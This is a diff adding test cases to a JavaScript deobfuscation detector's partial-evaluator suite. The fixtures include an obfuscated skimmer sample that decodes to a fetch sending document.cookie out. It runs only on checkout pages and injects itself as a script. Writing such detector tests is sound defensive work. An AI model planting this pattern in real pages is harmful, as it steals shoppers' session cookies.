@@ -3,7 +3,20 @@ import { parseStrict } from '../../detector/parse.ts'
 import { resolveStatically } from '../../detector/deobfuscate/partial.ts'
 
 // The partial evaluator as data: source in, what the resolved layer must and must not say.
+const SHIFTED =
+  '103,102,117,100,105,41,35,48,121,64,101,62,35,44,101,112,100,118,110,102,111,117,47,100,112,112,108,106,102,42'
 const CASES: { name: string; source: string; has: string[]; not?: string[] }[] = [
+  {
+    name: 'code decoded by fromCharCode.apply over a mapped array, in a branch on the page URL',
+    source: `!function(){var t,n=[${SHIFTED}];if(/checkout/.test(location.pathname)){t=String.fromCharCode.apply(null,n.map(function(c){return c-1}));var s=document.createElement('script');s.text=t;document.head.appendChild(s)}}()`,
+    has: ['atob("ZmV0Y2goIi94P2Q9Iitkb2N1bWVudC5jb29raWUp")'],
+  },
+  {
+    name: 'an array a callback writes to in a statement cut short stays unknown',
+    source: `!function(){var t,n=[${SHIFTED}];if(/checkout/.test(location.pathname)){t=String.fromCharCode.apply(null,n.map(function(c){n.push(0);return c-1}));var s=document.createElement('script');s.text=t;document.head.appendChild(s)}}()`,
+    has: [],
+    not: ['atob('],
+  },
   {
     name: 'a global array of escaped strings read by index, also as property names',
     source: `var _$=['\\x76\\x61\\x6c\\x75\\x65','\\u0073\\u0065\\u006e\\u0064','https://h.example/c'];
